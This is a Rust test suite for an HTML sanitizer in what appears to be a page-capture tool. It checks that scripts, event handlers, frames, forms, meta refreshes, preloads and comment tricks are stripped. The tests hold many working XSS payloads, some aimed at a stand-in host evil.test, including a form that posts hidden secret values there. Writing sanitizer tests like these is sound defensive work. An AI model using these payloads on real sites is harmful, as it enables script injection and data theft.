//! Scripts, handlers, frames, forms and everything that sends, in the spellings that public collections list.

use crate::oracle::{capture, check, check_capture};

#[test]
fn no_script_stays_in_any_spelling() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<script/src=//evil.test></script/x>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u{0}>alert(1)</script>",
        "<script type=module>import '//evil.test'</script>",
        "<script>x='<!--<script>'</script>--><p>y",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=//evil.test /></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.test\"]}]}</script>",
        "<<script>alert(1);//<</script>",
        "<script",
        "<script>",
        "</script><script>alert(1)",
    ] {
        let page = check(&format!("{html}<b>word</b>"));
        assert!(!page.html.to_ascii_lowercase().contains("<script"), "{html}");
    }
}

#[test]
fn no_event_handler_stays() {
    for html in [
        "<body onload=alert(1)>",
        "<html onclick=alert(1)>",
        "<img src=ok.png onerror=alert(1)>",
        "<img src=ok.png ONERROR='alert(1)'>",
        "<img/src=ok.png/onerror=alert(1)>",
        "<img \u{c}onerror=alert(1)>",
        "<img \"\"\"><b onclick=alert(1)>\">",
        "<svg onload=alert(1)>",
        "<svg><g onload=alert(1)></g></svg>",
        "<details open ontoggle=alert(1)>",
        "<div onpointerenter=alert(1)>x</div>",
        "<input autofocus onfocus=alert(1)>",
        "<p style='animation:x' onanimationstart=alert(1)>",
        "<math onclick=alert(1)><mi onclick=alert(1)>x</mi></math>",
        "<x-y onclick=alert(1) on-tap=alert(1)>",
        "<video poster=ok.png onloadstart=alert(1)><source onerror=alert(1)></video>",
        "<body><body onpageshow=alert(1)><html onfocus=alert(1)>",
        "<a onmouseover&#61;alert(1) href=#>x</a>",
    ] {
        check(html);
    }
}

#[test]
fn frames_become_links_or_nothing() {
    for (html, link) in [
        ("<iframe src=//b.test/x></iframe>", Some("https://b.test/x")),
        ("<iframe src='javascript:alert(1)'></iframe>", None),
        ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", None),
        ("<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;' src=y></iframe>", Some("https://a.test/dir/y")),
        ("<iframe src='data:text/html,<script>alert(1)</script>'></iframe>", None),
        ("<object data=//b.test/x><param name=y><p>z</p></object>", Some("https://b.test/x")),
        ("<object data='javascript:alert(1)'></object>", None),
        ("<embed src=//b.test/x>", Some("https://b.test/x")),
        ("<embed code=//evil.test>", None),
        ("<applet code=x archive=//evil.test></applet>", None),
        ("<portal src=//b.test/x></portal>", Some("https://b.test/x")),
        ("<fencedframe src=//evil.test></fencedframe>", None),
        ("<frameset><frame src=//b.test/x></frameset>", Some("https://b.test/x")),
        ("<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", None),
        ("<noframes><script>alert(1)</script></noframes>", None),
    ] {
        let page = check(html);
        match link {
            Some(link) => {
                assert!(page.html.contains(&format!("<a href=\"{link}\" rel=\"noreferrer\">{link}</a>")), "{html}")
            }
            None => assert!(!page.html.contains("<a"), "{html}: {}", page.html),
        }
    }
}

#[test]
fn a_frame_that_mhtml_names_by_id_becomes_a_link_to_where_it_came_from() {
    let mut capture = capture("<iframe src='cid:frame-1@mhtml.blink'></iframe>");
    capture.parts.push(detour_shelf::capture::Part {
        url: "https://b.test/frame".into(),
        id: Some("cid:frame-1@mhtml.blink".into()),
        media_type: "text/html".into(),
        ..Default::default()
    });
    assert!(check_capture(capture).html.contains("href=\"https://b.test/frame\""));
}

#[test]
fn forms_send_nothing_and_keep_nothing_that_was_typed() {
    let page = check(
        "<form action=//evil.test method=post><input type=hidden name=csrf value=secret1><input value=secret2>\
         <input type=password value=secret3><textarea>secret4</textarea><input type=email value=secret5>\
         <button formaction=//evil.test>Send</button><input type=submit value=Go><input type=image src=ok.png alt=Now>\
         <select><option value=secret6 selected>One<option>Two</select></form><isindex action=//evil.test><keygen>",
    );
    assert!(!page.html.contains("secret"), "{}", page.html);
    assert!(page.text.contains("Send") && page.text.contains("One") && page.html.contains("value=\"Go\""));
    assert!(page.html.contains("<img alt=\"Now\" src=\"detour-body:"));
}

#[test]
fn nothing_refreshes_redirects_or_preloads() {
    for html in [
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<META HTTP-EQUIV='Refresh' CONTENT='0;URL=javascript:alert(1)'>",
        "<meta http-equiv='set-cookie' content='a=b'>",
        "<meta http-equiv=content-security-policy content=\"script-src *\">",
        "<meta name=referrer content=unsafe-url>",
        "<meta http-equiv=x-dns-prefetch-control content=on>",
        "<body><meta http-equiv=refresh content='0;url=//evil.test'>",
        "<link rel=preload href=//evil.test as=script><link rel=prefetch href=//evil.test>",
        "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>",
        "<link rel='stylesheet preload' href=//evil.test><link rel=import href=//evil.test>",
        "<link rel=icon href=ok.png><link rel=manifest href=//evil.test><link rel=modulepreload href=//evil.test>",
        "<base href=//evil.test><base target=_blank>",
        "<html manifest=//evil.test>",
        "<a href=//b.test ping=//evil.test target=_top download>x</a>",
        "<noscript><meta http-equiv=refresh content='0;url=//evil.test'></noscript>",
        "<noscript><img src=//evil.test></noscript>",
    ] {
        let page = check(html);
        assert!(!page.html.contains("evil.test") || html.contains("<base"), "{html}: {}", page.html);
    }
}

#[test]
fn templates_go_unless_they_are_shadow_roots() {
    let page = check("<template><img src=x onerror=alert(1)><p>no</p></template><p>yes</p>");
    assert_eq!(page.text, "yes");
    let page = check(
        "<x-y><template shadowmode=open><style>p{color:red}</style><p onclick=x>shadow</p><script>alert(1)</script>\
         <slot name=s></slot><template shadowrootmode=closed>inner</template></template><i slot=s>light</i></x-y>",
    );
    assert_eq!(page.text, "shadow light");
    assert!(page.html.contains(
        "<x-y><template shadowrootmode=\"open\"><style>p{color:red}</style><p>shadow</p><slot name=\"s\"></slot>\
         </template><i slot=\"s\">light</i></x-y>"
    ));
    check("<div><template shadowrootmode=open>a</template><template shadowrootmode=open>b</template></div>");
    check("<table><template shadowrootmode=open><td>a</template></table>");
    check("<img><template shadowrootmode=open><p></template>");
    check("<div><template shadowrootmode=open><tr><td>a<p><template shadowrootmode=open><tbody>b</div>");
}

#[test]
fn comments_and_instructions_go() {
    for html in [
        "<!-- x --><p>y<!-- <script>alert(1)</script> --></p>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<?xml-stylesheet href='//evil.test'?><p>x",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
        "</ x><p>y",
        "<!x><p>y",
    ] {
        check(html);
    }
}
